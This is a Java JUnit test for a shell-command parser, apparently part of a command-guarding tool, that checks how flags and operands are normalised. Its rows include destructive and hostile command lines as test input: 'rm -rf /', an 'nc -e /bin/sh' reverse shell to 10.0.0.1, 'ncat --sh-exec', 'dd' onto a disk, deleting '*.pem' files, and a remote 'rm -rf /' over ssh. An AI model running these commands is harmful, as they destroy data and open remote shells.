package dev.cordon.shell;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.List;
import java.util.TreeSet;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Flags are normalised per program; option values never become operands. */
class OptionsTest {

    /** Each row: a line, its flags (sorted, {@code -}: none) and its operands ({@code ,}-separated). */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiterString = "=>", quoteCharacter = '§', textBlock = """
            rm -rf /                                   => -f -r                 => /
            rm -Rf /                                   => -f -r                 => /
            rm --recursive --force /                   => -f -r                 => /
            rm --dir -v x                              => -d -v                 => x
            rm --no-preserve-root -rf /                => --no-preserve-root -f -r => /
            rm --no-pres -rf /                         => --no-preserve-root -f -r => /
            rm -- -rf                                  => -                     => -rf
            rm - x                                     => -                     => -,x
            chmod -R 777 /srv                          => -R                    => 777,/srv
            chmod --recursive u+x bin                  => -R                    => u+x,bin
            chmod -x script                            => -                     => -x,script
            chmod -Rv -w dir                           => -R -v                 => -w,dir
            chmod --reference=a b                      => --reference           => b
            chmod --reference a b                      => --reference           => b
            chown -R --from=root app: dir              => --from -R             => app:,dir
            cp -R a b                                  => -r                    => a,b
            cp -a --target-directory dst x y           => -a -t                 => x,y
            cp -t dst x                                => -t                    => x
            mv -f --suffix .bak a b                    => -S -f                 => a,b
            ln -sf target link                         => -f -s                 => target,link
            curl -sSLo out.sh https://x                => -L -S -o -s           => https://x
            curl --output out -H 'A: b' x              => -H -o                 => x
            curl -O https://x/f                        => -O                    => https://x/f
            wget -qO- https://x                        => -O -q                 => https://x
            wget --output-document=f https://x         => -O                    => https://x
            nc -e /bin/sh 10.0.0.1 4444                => -e                    => 10.0.0.1,4444
            nc -lvp 4444                               => -l -p -v              => -
            ncat --sh-exec 'id' host 1                 => -c                    => host,1
            tar -xzf a.tgz -C dst                      => -C -f -x -z           => -
            tar xzf a.tgz member                       => -f -x -z              => member
            tar --create --file out.tar src            => -c -f                 => src
            tar --extr -f a.tar                        => -f -x                 => -
            dd if=/dev/zero of=disk bs=1M              => -                     => if=/dev/zero,of=disk,bs=1M
            git commit -am 'fix: x'                    => -a -m                 => commit
            git -C /repo push --force origin main      => -C -f                 => push,origin,main
            git -c core.pager=less log -n 5            => -c -n                 => log
            git clean -fdx                             => -d -f -x              => clean
            git reset --hard HEAD~1                    => --hard                => reset,HEAD~1
            git config --global core.editor vim        => --global              => config,core.editor,vim
            head -5 file                               => -5                    => file
            head -n 5 file                             => -n                    => file
            tail -fn20 log                             => -f -n                 => log
            kill -9 123                                => -9                    => 123
            kill -s KILL 123                           => -s                    => 123
            sed -i.bak 's/a/b/' f                      => -i                    => s/a/b/,f
            sed -ie 's/a/b/' f                         => -i                    => s/a/b/,f
            sed -n -e p -f script f                    => -e -f -n              => f
            grep -rn -e x -m 1 --include=*.c .         => --include -e -m -n -r => .
            sort -o sorted -k 2 in                     => -k -o                 => in
            find / -name '*.pem' -delete               => -delete -name         => /
            find -L . a -type f -exec rm {} + -print   => -L -exec -print -type => .,a
            ssh -i key -p 22 host 'rm -rf /'           => -i -p                 => host,rm -rf /
            rsync -av -e 'ssh -p 2' src host:dst       => -a -e -v              => src,host:dst
            java -jar app.jar                          => -a -j -r              => app.jar
            """)
    void normalised(String line, String flags, String operands) {
        SimpleCommand c = ShellTesting.understood(line).commands().get(0);
        List<String> wantedOperands = operands.equals("-") ? List.of() : List.of(operands.split(","));
        String wantedFlags = flags.equals("-") ? "[]" : new TreeSet<>(List.of(flags.split(" "))).toString();
        assertEquals(wantedFlags + " " + wantedOperands, new TreeSet<>(c.flags()) + " " + c.operands());
    }
}
